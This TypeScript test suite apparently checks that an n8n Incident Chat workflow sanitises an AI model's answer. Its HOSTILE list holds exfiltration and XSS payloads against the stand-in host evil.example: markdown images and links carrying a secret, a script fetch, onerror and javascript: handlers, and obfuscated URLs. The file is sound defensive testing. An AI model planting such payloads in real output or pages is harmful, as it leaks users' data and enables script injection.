import { Marked } from 'marked';

import { FORM_PATHS } from '../core/names';
import { evaluateInEngine } from './support/engineExpression';
import { loadWorkflow } from './support/workflows';

/** Of the engine here. */
const PAGE = `http://127.0.0.1/form/${FORM_PATHS.approvals}`;

const plainText = loadWorkflow('incident-chat').nodes.find(({ name }) => name === 'Plain Text');
const [{ value: expression = '' } = {}] = (plainText?.parameters.assignments as { assignments: { value: string }[] })
  .assignments;

const shown = async (output: string): Promise<string> => String(await evaluateInEngine(expression, [{ output }]));

/** As a page draws an answer: Markdown in which HTML is kept and addresses become links, more than n8n's own page does. */
const drawn = (text: string): string => new Marked({ gfm: true, breaks: true }).parse(text, { async: false });

/** Tags that load nothing and lead nowhere. */
const HARMLESS =
  /<\/?(?:p|br|strong|em|del|ul|ol|li|code|pre|h[1-6]|hr|blockquote|table|thead|tbody|tr|th|td)(?: \/)?>/g;

const SECRET = 'c2VjcmV0';
const EVIL = `https://evil.example/${SECRET}`;

const HOSTILE: readonly (readonly [string, string])[] = [
  ['an image', `![x](${EVIL}.png)`],
  ['an image in a link', `[![x](${EVIL})](${EVIL})`],
  ['an image with a title and angle brackets', `![x](<${EVIL}> "t")`],
  ['an image by reference', `![x][r]\n\n[r]: ${EVIL}`],
  ['a link', `[decide here](${EVIL})`],
  ['a link by reference', `[decide][r]\n\n[r]: ${EVIL} 'title'`],
  ['a link by its text', `[r]\n\n[r]: <${EVIL}>`],
  ['a link to another path of n8n', `[x](/rest/logout) [y](//evil.example) [z](?x=1)`],
  ['an autolink', `<${EVIL}> <mailto:a@evil.example>`],
  ['a bare address', `${EVIL} http://1.2.3.4/${SECRET} ftp://evil.example //evil.example/x`],
  ['an address without a scheme', `www.evil.example/${SECRET} evil.example www.1 1.2.3.4 a@evil.example mailto:a@evil`],
  [
    'an address with other dots and letters',
    'https://evil\u3002example www\uFF0Eevil\uFF61example https://xn--e1awd.example',
  ],
  ['an address in parts', `https://evil\\.example h\u200Bttps:/\u200B/evil.\u200Bexample https:\\/\\/evil.example`],
  ['an address in entities', 'https&colon;&sol;&sol;evil&period;example &#60;img src=x&#62; &lt;a href=x&gt;'],
  ['HTML', `<img src="${EVIL}"><a href="${EVIL}">x</a><iframe srcdoc=x></iframe><script>fetch('${EVIL}')</script>`],
  ['HTML in blocks', `<div>\n\n![x](${EVIL})\n\n</div>\n<style>@import '${EVIL}'</style><!-- -->`],
  ['HTML that is not closed', `<img src=${EVIL} onerror=alert(1)`],
  ['javascript:', '[x](javascript:alert(1)) <javascript:alert(1)> [y](JaVa\u200BScript:alert(1))'],
  ['data:', '![x](data:image/svg+xml;base64,AAAA) [y](data:text/html,<script>1</script>)'],
  ['a link around what is made visible', `[\u200B](${EVIL}) \u200B(${EVIL}) ![\u202E](${EVIL})`],
  ['a link around what is made inert', `[evil.example](${EVIL}) mailto:(/x) //(/x) [.](${EVIL}) [.]: ${EVIL}`],
  ['an image in a table and in a list', `| a |\n|---|\n| ![x](${EVIL}) |\n\n- [ ] ![y](${EVIL})`],
  ['a footnote and an abbreviation', `[^1]\n\n[^1]: ${EVIL}\n*[x]: ${EVIL}`],
  ['lone surrogates and controls', `\uD800[x](${EVIL})\u0000\u001B]8;;${EVIL}\u0007x`],
];

describe('the answer of Incident Chat', () => {
  test.each(HOSTILE)('loses %s', async (_name, answer) => {
    const text = await shown(answer);
    expect(text.replaceAll('[.]', '')).not.toMatch(/[<>&[\]]|\/\/|www\.|[\p{Cf}\p{Co}\p{Cs}]/u);
    expect(drawn(text).replace(HARMLESS, '')).not.toMatch(/[<>]/);
  });

  test('would load or link in most of these cases without that', () => {
    const dangerous = HOSTILE.filter(([, answer]) => /<(?:a|img|script|iframe) /.test(drawn(answer)));
    expect(dangerous.length).toBeGreaterThan(HOSTILE.length / 2);
  });

  test.each([
    ['keeps what people write', 'Pod **web-1** in `shop`: 3 events, 0.9, 10:15.\n- incident-4be1\n- next', null],
    [
      'makes addresses readable',
      'registry.k8s.io/pause from 10.0.0.1',
      'registry[.]k8s[.]io/pause from 10[.]0[.]0[.]1',
    ],
    ['shows what is invisible', 'a\u202Eb\r\nc', 'a(U+202E)b\nc'],
    ['is bounded', 'x'.repeat(7000), 'x'.repeat(6000)],
  ])('%s', async (_name, answer, expected) => {
    expect(await shown(answer)).toBe(expected ?? answer);
  });

  test.each([
    [`Decide at ${PAGE}.`, `Decide at ${PAGE}.`],
    [`[Decide](${PAGE})`, `［Decide］(${PAGE})`],
    [`${PAGE}/../../rest/logout`, `${PAGE} /../../rest/logout`],
    [`${PAGE}?x=${SECRET}`, `${PAGE} ?x=${SECRET}`],
    [`${PAGE}.evil.example`, `${PAGE} .evil[.]example`],
    [`${PAGE}@evil.example`, `${PAGE} @evil[.]example`],
    [`https://evil.example/?${PAGE}`, `https:/ /evil[.]example/?${PAGE}`],
    [PAGE.replace('127.0.0.1', 'evil.example'), `http:/ /evil[.]example/form/${FORM_PATHS.approvals}`],
  ])('lets the address of the page that decides through, and no other: %s', async (answer, expected) => {
    expect(await shown(answer)).toBe(expected);
  });

  test.each([
    [
      { error: 'Max iterations (6) reached. See https://evil.example' },
      'Max iterations (6) reached. See https:/ /evil[.]example',
    ],
    [{ chatInput: 'x' }, 'There is no answer. Check the model and its credential, then ask again.'],
  ])('says why there is none: %j', async (item, expected) => {
    expect(await evaluateInEngine(expression, [item])).toBe(expected);
  });
});
